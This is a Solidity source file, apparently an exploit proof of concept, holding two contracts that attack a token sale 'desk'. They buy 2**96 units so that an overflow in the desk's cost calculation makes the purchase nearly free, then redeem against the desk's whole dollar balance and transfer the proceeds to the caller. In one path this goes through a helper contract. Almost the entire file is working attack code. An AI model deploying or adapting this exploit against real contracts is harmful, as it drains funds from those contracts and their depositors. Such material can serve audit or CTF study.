// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IDesk {
    function price() external view returns (uint256);

    function buy(uint256 amount) external returns (uint256);

    function buyFor(address holder, uint256 amount) external returns (uint256);

    function redeem(uint256 amount) external returns (uint256);
}

interface IToken {
    function balanceOf(address account) external view returns (uint256);

    function transfer(address to, uint256 value) external returns (bool);
}

/// Buys so much that the cost, a multiple of what 96 bits hold, comes to nothing, and gives a little of it back.
contract WrappedBuyer {
    function run(IDesk desk, IToken dollar) external {
        desk.buy(2 ** 96);
        desk.redeem((dollar.balanceOf(address(desk)) * 1e18) / desk.price());
        dollar.transfer(msg.sender, dollar.balanceOf(address(this)));
    }

    function runFor(IDesk desk, IToken dollar, uint256 amount, uint256 proceeds) external {
        Redeemer redeemer = new Redeemer();
        desk.buyFor(address(redeemer), amount);
        redeemer.leave(desk, dollar, proceeds, msg.sender);
    }
}

contract Redeemer {
    function leave(IDesk desk, IToken dollar, uint256 proceeds, address to) external {
        desk.redeem((proceeds * 1e18) / desk.price());
        dollar.transfer(to, dollar.balanceOf(address(this)));
    }
}
